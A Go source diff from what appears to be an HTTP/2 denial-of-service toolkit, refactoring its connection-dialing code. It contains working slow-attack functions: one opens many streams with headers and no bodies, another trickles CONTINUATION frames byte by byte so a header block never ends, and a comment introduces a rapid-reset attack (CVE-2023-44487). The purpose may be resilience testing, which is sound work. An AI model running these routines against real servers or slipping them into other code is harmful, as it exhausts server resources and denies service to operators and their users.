@@ -39,6 +39,23 @@ func dialN(ctx context.Context, tg Target, from []string, n int, proto string, s
 	return conns, nil
 }
 
+// dialH2N is dialN for HTTP/2: it dials n connections, each with the
+// client preface and SETTINGS sent, and calls start on each.
+func dialH2N(ctx context.Context, tg Target, from []string, n int, start func(h *H2Conn) error) ([]net.Conn, error) {
+	var conns []net.Conn
+	for i := range n {
+		h, err := tg.DialH2(ctx, source(from, i))
+		if err != nil {
+			return conns, err
+		}
+		conns = append(conns, h.Conn)
+		if err := start(h); err != nil {
+			return conns, fmt.Errorf("attack: connection %d: %w", i, err)
+		}
+	}
+	return conns, nil
+}
+
 // trickle calls write every pause until it fails, ctx is done or max
 // writes were made.
 func trickle(ctx context.Context, pause time.Duration, max int, write func() error) {
@@ -147,19 +164,13 @@ func getOnce(c net.Conn, host, path string) error {
 // then nothing). Streams beyond the server's concurrency limit are its
 // to refuse.
 func H2Bodies(ctx context.Context, tg Target, from []string, conns, streams int, path string) ([]net.Conn, error) {
-	var out []net.Conn
-	for i := range conns {
-		h, err := tg.DialH2(ctx, source(from, i))
-		if err != nil {
-			return out, err
-		}
-		out = append(out, h.Conn)
+	return dialH2N(ctx, tg, from, conns, func(h *H2Conn) error {
 		block := h.HeaderBlock("POST", path)
 		for s := range streams {
 			_ = h.Framer.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*s + 1), BlockFragment: block, EndHeaders: true})
 		}
-	}
-	return out, nil
+		return nil
+	})
 }
 
 // H2SlowHeaders opens conns HTTP/2 connections and sends, on each, the
@@ -167,20 +178,14 @@ func H2Bodies(ctx context.Context, tg Target, from []string, conns, streams int,
 // then one more byte of the block in a CONTINUATION frame every pause,
 // never ending it.
 func H2SlowHeaders(ctx context.Context, tg Target, from []string, conns int, path string, pause time.Duration) ([]net.Conn, error) {
-	var out []net.Conn
-	for i := range conns {
-		h, err := tg.DialH2(ctx, source(from, i))
-		if err != nil {
-			return out, err
-		}
-		out = append(out, h.Conn)
+	return dialH2N(ctx, tg, from, conns, func(h *H2Conn) error {
 		block := h.HeaderBlock("GET", path)
 		if err := h.Framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block[:1]}); err != nil {
-			return out, fmt.Errorf("attack: connection %d: %w", i, err)
+			return err
 		}
 		go trickle(ctx, pause, trickleMax, func() error { return h.Framer.WriteContinuation(1, false, block[1:2]) })
-	}
-	return out, nil
+		return nil
+	})
 }
 
 // RapidReset is the HTTP/2 rapid-reset attack (CVE-2023-44487): on a
